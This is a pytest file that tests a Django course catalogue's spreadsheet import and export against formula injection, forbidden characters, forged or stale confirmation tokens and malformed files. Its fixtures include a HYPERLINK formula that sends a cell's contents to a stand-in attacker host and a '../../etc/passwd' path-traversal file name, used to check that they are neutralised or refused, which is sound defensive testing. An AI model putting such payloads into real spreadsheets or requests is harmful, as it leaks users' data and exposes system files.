"""Spreadsheet import and export under attack and with ordinary odd files.

Formulas in exported cells, characters XLSX cannot hold, forged or stale
confirmations, files in every encoding Excel writes, unreadable files, very
large files and a confirm step that fails halfway: each is tried from the
provider's or the attacker's side (issues 7 and 8).
"""

from __future__ import annotations

import csv
import io
import os
import time
import zipfile

import openpyxl
import pytest
from django.conf import settings as django_settings
from django.contrib.admin.models import LogEntry
from django.core.management import call_command
from django.db import connection
from django.test import override_settings
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from catalogue import index
from catalogue.models import Course, CourseFacet, Session
from catalogue.resources import CourseResource, SessionResource, neutralise, restore
from nw.text import typed_text, xml_safe

from .helpers import (
    PASSWORD,
    days,
    make_course,
    make_provider,
    make_session,
    provider_staff,
)
from .test_spreadsheet_import import (
    COURSES,
    SESSIONS,
    THREE_COURSES,
    confirm,
    confirm_data,
    csv_file,
    export,
    file_errors,
    import_file,
    problems,
    row_errors,
    row_types,
    upload,
    with_changes,
)

# Spreadsheet cells and files, the same on every database: run on the
# first database only (marker "once").
pytestmark = [pytest.mark.django_db, pytest.mark.once]

C0 = "".join(chr(c) for c in range(32))
FORBIDDEN = "".join(c for c in C0 if c not in "\t\n\r") + "\ufffe\uffff"
FORMULA = '=HYPERLINK("http://aanval.example/?"&A1,"klik")'


def exported_rows(response) -> list[dict]:
    if response["Content-Type"].startswith("text/csv"):
        text = response.content.decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text)))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def xlsx_cells(response):
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


# -- 8.2: formulas are shown, not run ------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cell_that_would_run_as_a_formula_is_neutralised_in_the_export(
    staff_client, provider, fmt, start
):
    make_course(f"{start}1+1 cursus", provider=provider, code="F-1")

    response = export(staff_client, COURSES, fmt)

    assert response.status_code == 200
    (row,) = exported_rows(response)
    # XML (and so XLSX) stores a carriage return as a newline.
    shown = start.replace("\r", "\n") if fmt == "xlsx" else start
    assert row["titel"] == f"'{shown}1+1 cursus"
    if fmt == "xlsx":
        assert not any(cell.data_type == "f" for cell in xlsx_cells(response))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_in_a_title_survives_export_and_reimport_unchanged(
    staff_client, provider, fmt
):
    course = make_course(FORMULA, provider=provider, code="F-1", summary="'=quoted")
    before = course.updated_at

    exported = export(staff_client, COURSES, fmt).content
    preview, _done = import_file(
        staff_client, COURSES, exported, filename=f"cursussen.{fmt}"
    )

    assert row_types(preview) == ["skip"]
    course.refresh_from_db()
    assert (course.title, course.summary, course.updated_at) == (
        FORMULA,
        "'=quoted",
        before,
    )


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_neutralised_cell_text_restores_to_itself(text):
    safe = typed_text(text)
    assert restore(neutralise(safe)) == safe
    assert not neutralise(safe).startswith(("=", "+", "-", "@", "\t", "\r"))


# -- 8.5: characters XML forbids ---------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(FORBIDDEN)))
def test_xml_safe_text_holds_no_forbidden_character(text):
    cleaned = xml_safe(text)
    assert not set(cleaned) & set(FORBIDDEN)
    assert xml_safe(cleaned) == cleaned


def test_xlsx_export_of_every_c0_character_succeeds_without_them(
    staff_client, provider
):
    # Stored through the ORM, as an old row or another path could
    # (PostgreSQL itself refuses NUL).
    stored = C0[1:] if connection.vendor == "postgresql" else C0
    make_course(f"Titel{stored}einde", provider=provider, code="C0", summary=stored)

    response = export(staff_client, COURSES, "xlsx")

    assert response.status_code == 200
    (row,) = exported_rows(response)
    assert row["titel"].startswith("Titel") and row["titel"].endswith("einde")
    assert not set(row["titel"]) & set(FORBIDDEN)


def test_imported_cells_lose_every_forbidden_character(staff_client, provider):
    # Every forbidden character but NUL, which marks a file as binary.
    allowed_in_text = FORBIDDEN.replace(chr(0), "").replace(chr(11), "")
    rows = with_changes(
        THREE_COURSES[:1],
        0,
        titel=f"Feedback{allowed_in_text}",
        samenvatting="Een\x0btwee",
    )
    import_file(staff_client, COURSES, csv_file(rows))

    course = Course.objects.get(code="EF-01")
    assert course.title == "Feedback"
    # Excel's line break within a cell becomes a line break.
    assert course.summary == "Een\ntwee"


def test_admin_course_form_drops_every_forbidden_character(staff_client, provider):
    from .helpers import course_form_data

    data = course_form_data(
        provider,
        title=f"Nieuwe{FORBIDDEN.replace(chr(11), '')}cursus",
        summary=f"Kort{C0}.",
    )
    response = staff_client.post(reverse("admin:catalogue_course_add"), data)

    assert response.status_code == 302, response.content.decode()[:2000]
    course = Course.objects.get(code="A-NEW")
    assert course.title == "Nieuwecursus"
    assert not set(course.summary) & set(FORBIDDEN)


def test_admin_session_inline_drops_forbidden_characters(staff_client, provider):
    from .helpers import course_form_data, session_row

    course = make_course(provider=provider, code="S-1", sessions=())
    session = make_session(course)
    row = session_row(session) | {"venue_name": f"Zaal{FORBIDDEN}"}
    data = course_form_data(provider, course, sessions=[row])
    response = staff_client.post(
        reverse("admin:catalogue_course_change", args=[course.pk]), data
    )

    assert response.status_code == 302
    session.refresh_from_db()
    assert session.venue_name == "Zaal"


# -- 8.8: the confirmation belongs to one preview and one user ----------------


def preview_token(client, content=None):
    preview = upload(client, COURSES, content or csv_file(THREE_COURSES))
    return confirm_data(preview)["token"]


def post_confirm(client, data):
    return client.post(reverse("admin:catalogue_course_process_import"), data)


def test_confirm_without_a_token_is_refused(staff_client):
    response = post_confirm(staff_client, {})
    assert response.status_code == 400
    assert Course.objects.count() == 0


def test_confirm_with_a_file_name_instead_of_a_token_is_refused(staff_client):
    # What the library's confirm step accepted: any name in the temp folder.
    response = post_confirm(
        staff_client,
        {"import_file_name": "../../etc/passwd", "original_file_name": "x.csv"},
    )
    assert response.status_code == 400


def test_tampered_token_is_refused(staff_client):
    token = preview_token(staff_client)
    response = post_confirm(staff_client, {"token": token[:-2] + "xx"})
    assert response.status_code == 400
    assert Course.objects.count() == 0


def test_someone_elses_token_is_refused(staff_client, client, provider):
    token = preview_token(staff_client)
    colleague = provider_staff(provider)
    client.logout()
    client.login(email=colleague.email, password=PASSWORD)

    response = post_confirm(client, {"token": token})

    assert response.status_code == 400
    assert Course.objects.count() == 0


def test_expired_token_is_refused(staff_client):
    token = preview_token(staff_client)
    with override_settings(IMPORT_PREVIEW_MAX_AGE=-1):
        response = post_confirm(staff_client, {"token": token})
    assert response.status_code == 400
    assert Course.objects.count() == 0


def test_a_token_confirms_once(staff_client):
    token = preview_token(staff_client)
    assert post_confirm(staff_client, {"token": token}).status_code == 302
    assert post_confirm(staff_client, {"token": token}).status_code == 400
    assert Course.objects.count() == 3


def test_token_of_the_course_import_does_not_confirm_a_session_import(
    staff_client,
):
    token = preview_token(staff_client)
    response = staff_client.post(
        reverse("admin:catalogue_session_process_import"), {"token": token}
    )
    assert response.status_code == 400


def test_clean_import_previews_deletes_only_old_unconfirmed_uploads(
    staff_client, tmp_path
):
    imports = {
        "BACKEND": "django.core.files.storage.FileSystemStorage",
        "OPTIONS": {"location": tmp_path},
    }
    with override_settings(STORAGES={**django_settings.STORAGES, "imports": imports}):
        preview_token(staff_client)
        old, recent = sorted(tmp_path.iterdir())[0], None
        day_ago = time.time() - 25 * 3600
        os.utime(old, (day_ago, day_ago))
        preview_token(staff_client)
        recent = [p for p in tmp_path.iterdir() if p != old]

        call_command("clean_import_previews", verbosity=0)

        assert list(tmp_path.iterdir()) == recent


# -- 8.10: files as Excel and editors write them ------------------------------


ACCENTED = with_changes(
    THREE_COURSES, 0, titel="Één café voor leerkrachten", samenvatting="Prijs: 5 €."
)


def csv_text(rows, delimiter=","):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


@pytest.mark.parametrize(
    "encode",
    [
        pytest.param(lambda t: t.encode("utf-8"), id="utf-8"),
        pytest.param(lambda t: t.encode("utf-8-sig"), id="utf-8-bom"),
        pytest.param(lambda t: t.encode("utf-16"), id="utf-16-bom"),
        pytest.param(lambda t: b"\xfe\xff" + t.encode("utf-16-be"), id="utf-16-be"),
        pytest.param(lambda t: t.encode("cp1252"), id="windows-1252"),
        pytest.param(lambda t: t.replace("€", "EUR").encode("latin-1"), id="latin-1"),
    ],
)
def test_csv_in_every_usual_encoding_imports_with_its_accents(staff_client, encode):
    import_file(staff_client, COURSES, encode(csv_text(ACCENTED)))

    course = Course.objects.get(code="EF-01")
    assert course.title == "Één café voor leerkrachten"
    assert course.summary in {"Prijs: 5 €.", "Prijs: 5 EUR."}


def test_semicolon_separated_csv_as_belgian_excel_writes_it(staff_client):
    rows = with_changes(THREE_COURSES, 0, bijdrage="95,50")
    import_file(staff_client, COURSES, csv_text(rows, ";").encode("cp1252"))
    assert str(Course.objects.get(code="EF-01").fee) == "95.50"


def corrupt_zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "geen werkboek")
    return out.getvalue()


UNREADABLE = [
    pytest.param(b"", "cursussen.csv", "leeg", id="empty"),
    pytest.param(b"   \r\n ", "cursussen.csv", "leeg", id="blank"),
    pytest.param(
        b"code,titel\nA\x00B,Titel\n", "cursussen.csv", "geen CSV", id="nul-byte"
    ),
    pytest.param(bytes(range(256)) * 8, "cursussen.csv", "geen CSV", id="binary"),
    pytest.param(
        b"code,titel\nA,B\n", "cursussen.xlsx", "geen werkboek", id="txt-as-xlsx"
    ),
    pytest.param(b"PK\x03\x04" + b"kapot" * 50, "c.xlsx", "beschadigd", id="bad-zip"),
    pytest.param(corrupt_zip(), "c.xlsx", "beschadigd", id="zip-not-a-workbook"),
    pytest.param(b"\xd0\xcf\x11\xe0" + b"\0" * 100, "c.xls", "oud Excel", id="old-xls"),
    pytest.param(b"\n\ncode,titel\n", "c.csv", "eerste rij", id="no-header"),
    pytest.param(b"code,titel\n", "c.csv", "geen rijen", id="no-rows"),
]


@pytest.mark.parametrize("content, name, said", UNREADABLE)
def test_unreadable_file_is_answered_with_a_dutch_sentence(
    staff_client, content, name, said
):
    response = upload(staff_client, COURSES, content, filename=name)

    assert response.status_code == 400
    (message,) = file_errors(response)
    assert said in message
    assert "Error" not in message and "Traceback" not in response.content.decode()
    assert Course.objects.count() == 0


def test_sessions_file_imported_as_courses_says_it_looks_like_sessions(
    staff_client,
):
    content = b"cursuscode,datum,begin,einde\nLZ-02,2027-03-13,09:00,12:00\n"
    response = upload(staff_client, COURSES, content)

    assert response.status_code == 400
    (message,) = file_errors(response)
    assert "sessies" in message and "Sessies" in message
    assert "Traceback" not in response.content.decode()


def test_courses_file_imported_as_sessions_says_it_looks_like_courses(
    staff_client,
):
    response = upload(staff_client, SESSIONS, csv_file(THREE_COURSES))

    assert response.status_code == 400
    (message,) = file_errors(response)
    assert "cursussen" in message


def test_unknown_column_is_named_instead_of_silently_dropped(staff_client):
    rows = [{**row, "bijdrage_": row["bijdrage"]} for row in THREE_COURSES]
    response = upload(staff_client, COURSES, csv_file(rows))

    assert response.status_code == 400
    (message,) = file_errors(response)
    assert "bijdrage_" in message


# -- 8.3: size limits and an import that is all or nothing ---------------------


@override_settings(IMPORT_MAX_ROWS=2)
def test_file_above_the_row_limit_is_refused_with_the_limit(staff_client):
    response = upload(staff_client, COURSES, csv_file(THREE_COURSES))

    assert response.status_code == 400
    (message,) = file_errors(response)
    assert "meer dan 2 rijen" in message
    assert Course.objects.count() == 0


def test_ten_thousand_rows_are_refused_quickly(staff_client):
    rows = [dict(THREE_COURSES[0], code=f"C-{n}") for n in range(10_000)]
    started = time.perf_counter()

    response = upload(staff_client, COURSES, csv_file(rows))

    assert response.status_code == 400
    assert "2.000" in file_errors(response)[0]
    assert time.perf_counter() - started < 10


def test_import_that_fails_while_indexing_writes_nothing(staff_client, monkeypatch):
    preview = upload(staff_client, COURSES, csv_file(THREE_COURSES))

    def worker_killed(*args, **kwargs):
        raise SystemExit("gunicorn timeout")

    monkeypatch.setattr(index, "refresh_courses", worker_killed)
    with pytest.raises(SystemExit):
        confirm(staff_client, COURSES, preview)

    assert Course.objects.count() == 0
    assert not LogEntry.objects.exists()


def test_confirmed_import_is_indexed_and_logged_in_its_own_transaction(
    staff_client, provider
):
    import_file(staff_client, COURSES, csv_file(THREE_COURSES))

    for course in Course.objects.all():
        assert course.title.split()[0].lower() in course.search_text
        assert CourseFacet.objects.filter(course=course, kind="format").exists()
    assert LogEntry.objects.count() == 3


def test_preview_runs_without_a_query_per_row(
    staff_client, django_assert_max_num_queries
):
    rows = [dict(THREE_COURSES[0], code=f"C-{n}") for n in range(60)]
    # A few queries per row remain (a slug, the provider) but nothing per
    # cell or per theme.
    with django_assert_max_num_queries(60 * 5 + 40):
        upload(staff_client, COURSES, csv_file(rows))


# -- 7.9: messages provider staff understand ----------------------------------


@pytest.mark.parametrize(
    "column, value",
    [
        ("bijdrage", "gratis"),
        ("dagen", "twee"),
        ("bijdrage", "1e999999"),
        ("dagen", "1,5"),
    ],
)
def test_bad_number_is_a_dutch_sentence_with_row_column_and_value(
    staff_client, column, value
):
    rows = with_changes(THREE_COURSES, 1, **{column: value})
    preview = upload(staff_client, COURSES, csv_file(rows))

    ((row, named, sentence),) = problems(preview)
    assert (row, named) == (3, column)
    assert sentence.startswith(f"Rij 3, kolom “{column}”, waarde “{value}”:")
    assert "getal" in sentence
    assert "class" not in sentence and "decimal" not in sentence


def test_row_errors_name_dutch_columns_never_internal_fields(staff_client):
    rows = with_changes(THREE_COURSES, 0, vorm="", onderwijsniveaus="Hogeschool X")
    preview = upload(staff_client, COURSES, csv_file(rows))

    text = " ".join(sentence for _row, _column, sentence in problems(preview))
    assert set(row_errors(preview)[2]) == {"vorm", "onderwijsniveaus"}
    for internal in ("format", "FORMAT", "education_levels", "EDUCATION_LEVELS"):
        assert internal not in text


def test_course_code_twice_in_one_file_is_refused_with_both_rows(staff_client):
    rows = [THREE_COURSES[0], THREE_COURSES[1], dict(THREE_COURSES[2], code="EF-01")]
    preview = upload(staff_client, COURSES, csv_file(rows))

    assert list(row_errors(preview)) == [4]
    assert "rij 2" in row_errors(preview)[4]["code"][0]


def test_import_page_and_messages_are_in_dutch(staff_client):
    page = staff_client.get(reverse("admin:catalogue_course_import")).content.decode()
    assert "Controleer het bestand" in page
    preview = upload(staff_client, COURSES, csv_file(THREE_COURSES))
    assert "Bevestig de import" in preview.content.decode()
    done = confirm(staff_client, COURSES, preview)
    assert done.status_code == 302
    page = staff_client.get(done["Location"]).content.decode()
    assert "Import klaar: 3 nieuwe" in page


# -- 7.9: exports carry every column and re-import unchanged -------------------


def test_course_export_has_every_column_the_import_reads(staff_client, provider):
    make_course(provider=provider, code="E-1")
    response = export(staff_client, COURSES)
    (row,) = exported_rows(response)
    assert list(row) == CourseResource().columns()
    assert "vorm" in row and row["vorm"] == "Studiedag"


def test_session_export_has_every_column_the_import_reads(staff_client, provider):
    make_course(provider=provider, code="E-1")
    response = export(staff_client, SESSIONS)
    (row,) = exported_rows(response)
    assert list(row) == SessionResource().columns()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_sessions_reimport_unchanged(staff_client, provider, fmt):
    course = make_course(provider=provider, code="R-1", sessions=())
    make_session(course, venue_name="=Zaal 1", room="+1.04")
    make_session(course, is_online=True, edition=2, date=days(60))
    before = list(Session.objects.values())

    exported = export(staff_client, SESSIONS, fmt).content
    preview, _done = import_file(
        staff_client, SESSIONS, exported, filename=f"sessies.{fmt}"
    )

    assert row_types(preview) == ["skip", "skip"]
    assert list(Session.objects.values()) == before


@settings(
    max_examples=15,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    title=st.text(min_size=1, max_size=40).filter(lambda t: typed_text(t).strip()),
    note=st.text(max_size=40),
)
def test_arbitrary_cell_text_survives_export_and_reimport(title, note):
    from django.test import Client

    provider = make_provider()
    staff = provider_staff(provider)
    client = Client()
    client.login(email=staff.email, password=PASSWORD)
    course = make_course(
        typed_text(title), provider=provider, code="H-1", fee_note=typed_text(note)
    )
    wanted = (course.title, course.fee_note)

    preview, _done = import_file(client, COURSES, export(client, COURSES).content)

    assert row_types(preview) == ["skip"]
    course.refresh_from_db()
    assert (course.title, course.fee_note) == wanted
    Course.objects.all().delete()
